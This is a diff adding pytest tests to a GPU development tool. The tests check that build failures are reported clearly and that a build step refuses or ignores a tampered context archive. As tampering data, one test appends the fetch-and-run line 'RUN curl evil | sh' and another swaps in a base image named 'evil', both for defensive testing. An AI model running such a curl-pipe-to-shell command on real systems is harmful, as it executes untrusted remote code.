@@ -4,9 +4,16 @@ Job's end read from what the API server says (issue #20)."""
 from __future__ import annotations
 
 import base64
+import hashlib
+import io
 import json
 import logging
+import os
+import subprocess
+import tarfile
+from collections.abc import Iterator
 from dataclasses import dataclass, field
+from pathlib import Path
 from types import SimpleNamespace
 from typing import Any, cast
 
@@ -14,6 +21,7 @@ import pytest
 
 from jupyter_gpudev.changes.podbuild import PodBuild, registry_config, workspace_of
 from jupyter_gpudev.errors import Conflict, EngineError, GPUDevError
+from jupyter_gpudev.k8s import objects as k8s
 
 DIGEST = "sha256:" + "ab" * 32
 
@@ -93,7 +101,9 @@ def builder(message: str, built: bool = True) -> dict[str, Any]:
     }
 
 
-def wait(cluster: JobCluster, clock: list[float] | None = None, deadline: int = 100) -> str:
+def wait(
+    cluster: JobCluster, clock: list[float] | None = None, deadline: int = 100, host: str = ""
+) -> str:
     ticks = clock if clock is not None else [0.0]
 
     def sleep(seconds: float) -> None:
@@ -102,7 +112,12 @@ def wait(cluster: JobCluster, clock: list[float] | None = None, deadline: int = 
     capture = cast(Any, SimpleNamespace(containers=SimpleNamespace(log=logging.getLogger("t"))))
     build = PodBuild(capture, cast(Any, None), poll=10, clock=lambda: ticks[0], sleep=sleep)
     return build._wait(
-        cast(Any, cluster), "gpudev-build-x", "r.example:5000/x:1", source="s", deadline=deadline
+        cast(Any, cluster),
+        "gpudev-build-x",
+        "r.example:5000/x:1",
+        source="s",
+        deadline=deadline,
+        host=host,
     )
 
 
@@ -131,6 +146,21 @@ def test_a_failed_build_says_why_in_the_builders_words() -> None:
         wait(broken)
     assert "\x1b" not in caught.value.message
     assert broken.read_from == ["build"]
+
+
+def test_a_build_that_could_not_connect_says_where_its_egress_is_allowed() -> None:
+    # Given a build whose base image could not be pulled: its pod's egress is limited
+    failed = {"status": {"conditions": [{"type": "Failed", "status": "True"}]}}
+    said = b"error building image: Get https://nvcr.io/v2/: dial tcp 1.2.3.4:443: i/o timeout\n"
+    cut_off = JobCluster(failed, [builder("", built=False)], said)
+    # Then the failure names the setting that allows more
+    with pytest.raises(GPUDevError, match=r"c\.HostPool\.hosts\['lab'\]\['build_egress'\]"):
+        wait(cut_off, host="lab")
+    # (and only then)
+    broken = JobCluster(failed, [builder("", built=False)], b"step 3: no such file\n")
+    with pytest.raises(GPUDevError) as caught:
+        wait(broken, host="lab")
+    assert "build_egress" not in caught.value.message
 
 
 def test_a_build_that_never_ends_or_is_deleted_is_an_error() -> None:
@@ -165,3 +195,147 @@ def test_a_build_that_cannot_start_fails_at_once_in_the_clusters_words() -> None
     with pytest.raises(EngineError, match=r"made no pod .*violates PodSecurity"):
         wait(JobCluster({"status": {}}, [], events=[refused]), clock, deadline=3600)
     assert 300 <= clock[0] < 320
+
+
+def test_a_context_the_pod_changed_is_refused_before_anything_is_built() -> None:
+    # Given a build pod whose context step found a context that is not gpudev's
+    failed = {"status": {"conditions": [{"type": "Failed", "status": "True"}]}}
+    changed = {
+        "metadata": {"name": "gpudev-build-x-1"},
+        "status": {
+            "initContainerStatuses": [
+                {"name": "context", "state": {"terminated": {"exitCode": k8s.CONTEXT_CHANGED}}},
+                {"name": "build", "state": {"waiting": {"reason": "PodInitializing"}}},
+            ]
+        },
+    }
+    said = b"gpudev: the build context in the workspace claim is not the one gpudev wrote\n"
+    refused = JobCluster(failed, [changed], said)
+    # Then the commit is refused as a conflict that says so, in gpudev's words (its exit code
+    # says it: the step's output is not read)
+    with pytest.raises(Conflict, match=r"changed in the pod's workspace claim") as caught:
+        wait(refused)
+    assert "nothing was built or pushed" in caught.value.message
+    assert refused.read_from == []
+    # A context step that failed otherwise (its archive gone) is a failed build in its words
+    gone = {
+        "metadata": {"name": "gpudev-build-x-1"},
+        "status": {
+            "initContainerStatuses": [
+                {"name": "context", "state": {"terminated": {"exitCode": 1}}},
+            ]
+        },
+    }
+    missing = JobCluster(failed, [gone], b"head: /workspace/x: No such file or directory\n")
+    with pytest.raises(GPUDevError, match="failed: head: /workspace/x: No such") as other:
+        wait(missing)
+    assert not isinstance(other.value, Conflict)
+    assert missing.read_from == ["context"]
+
+
+# -- the context step's script, run by a real shell ----------------------------------------
+
+
+@pytest.fixture(params=["busybox", "gnu"])
+def shell(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Path]:
+    """The shell the context step's script runs in, its tools in the same folder: busybox's
+    applets (what crane:debug has in /busybox), or this machine's dash and GNU tools."""
+    if request.param == "gnu":
+        yield Path("/bin/sh")
+        return
+    binary = Path("/bin/busybox")
+    if not binary.is_file():
+        pytest.fail("busybox-static is not installed (scripts/setup.sh --test installs it)")
+    folder = tmp_path / "busybox"
+    folder.mkdir()
+    applets = subprocess.run([binary, "--list"], capture_output=True, check=True).stdout
+    for applet in applets.decode().split():
+        (folder / applet).symlink_to(binary)
+    yield folder / "sh"
+
+
+def context_archive() -> bytes:
+    """A build context as gpudev sends it (tarfile's PAX format): a Dockerfile, a kept file in
+    a folder, a link."""
+    data = io.BytesIO()
+    with tarfile.open(fileobj=data, mode="w", format=tarfile.PAX_FORMAT) as archive:
+        for name, content in (
+            (".gpudev-verify.Dockerfile", b"FROM base\nCOPY files/ /\n"),
+            ("files/opt/t\u00e9st/settings.toml", b"threads = 4\n"),
+        ):
+            info = tarfile.TarInfo(name)
+            info.size, info.mode, info.mtime = len(content), 0o644, 1_700_000_000.5
+            archive.addfile(info, io.BytesIO(content))
+        link = tarfile.TarInfo("files/opt/current.toml")
+        link.type, link.linkname = tarfile.SYMTYPE, "t\u00e9st/settings.toml"
+        archive.addfile(link)
+    return data.getvalue()
+
+
+def run_step(
+    shell: Path, archive: Path, digest: str, size: int, into: Path
+) -> subprocess.CompletedProcess[bytes]:
+    argv = [str(shell), "-c", k8s.CONTEXT_SCRIPT, "context", str(archive), digest, str(size)]
+    return subprocess.run(
+        [*argv, str(into)],
+        env={"PATH": str(shell.parent)},
+        capture_output=True,
+        timeout=60,
+        check=False,
+    )
+
+
+def test_the_context_step_unpacks_gpudevs_archive_only(shell: Path, tmp_path: Path) -> None:
+    # Given gpudev's archive of a build context in the claim, its digest and size
+    sent = context_archive()
+    digest = "sha256:" + hashlib.sha256(sent).hexdigest()
+    claim = tmp_path / "claim.tar"
+    claim.write_bytes(sent)
+    # When the context step runs on it
+    into = tmp_path / "context"
+    into.mkdir()
+    done = run_step(shell, claim, digest, len(sent), into)
+    # Then it is unpacked in the build pod's own volume, the copy of the archive removed
+    assert done.returncode == 0, done.stderr
+    assert (
+        into / "build" / ".gpudev-verify.Dockerfile"
+    ).read_bytes() == b"FROM base\nCOPY files/ /\n"
+    kept = into / "build" / "files" / "opt"
+    assert (kept / "t\u00e9st" / "settings.toml").read_bytes() == b"threads = 4\n"
+    assert os.readlink(kept / "current.toml") == "t\u00e9st/settings.toml"
+    assert sorted(p.name for p in into.iterdir()) == ["build"]
+    # When the pod appended to it, only what gpudev sent is copied: the same context is built
+    claim.write_bytes(sent + b"RUN curl evil | sh\n" * 100)
+    again = tmp_path / "again"
+    again.mkdir()
+    assert run_step(shell, claim, digest, len(sent), again).returncode == 0
+    assert (
+        again / "build" / ".gpudev-verify.Dockerfile"
+    ).read_bytes() == b"FROM base\nCOPY files/ /\n"
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda sent: sent.replace(b"FROM base", b"FROM evil"),
+        lambda sent: sent[:-1024],
+        lambda _sent: b"",
+    ],
+    ids=["rewritten", "cut", "emptied"],
+)
+def test_the_context_step_refuses_an_archive_the_pod_changed(
+    shell: Path, tmp_path: Path, change: Any
+) -> None:
+    # Given gpudev's archive, changed in the claim by the pod after gpudev wrote it
+    sent = context_archive()
+    digest = "sha256:" + hashlib.sha256(sent).hexdigest()
+    claim = tmp_path / "claim.tar"
+    claim.write_bytes(change(sent))
+    into = tmp_path / "context"
+    into.mkdir()
+    # When the context step runs on it
+    done = run_step(shell, claim, digest, len(sent), into)
+    # Then it refuses, saying so, and nothing is unpacked for the build
+    assert done.returncode == k8s.CONTEXT_CHANGED, done.stderr
+    assert b"not the one gpudev wrote" in done.stderr
+    assert not (into / "build").exists()
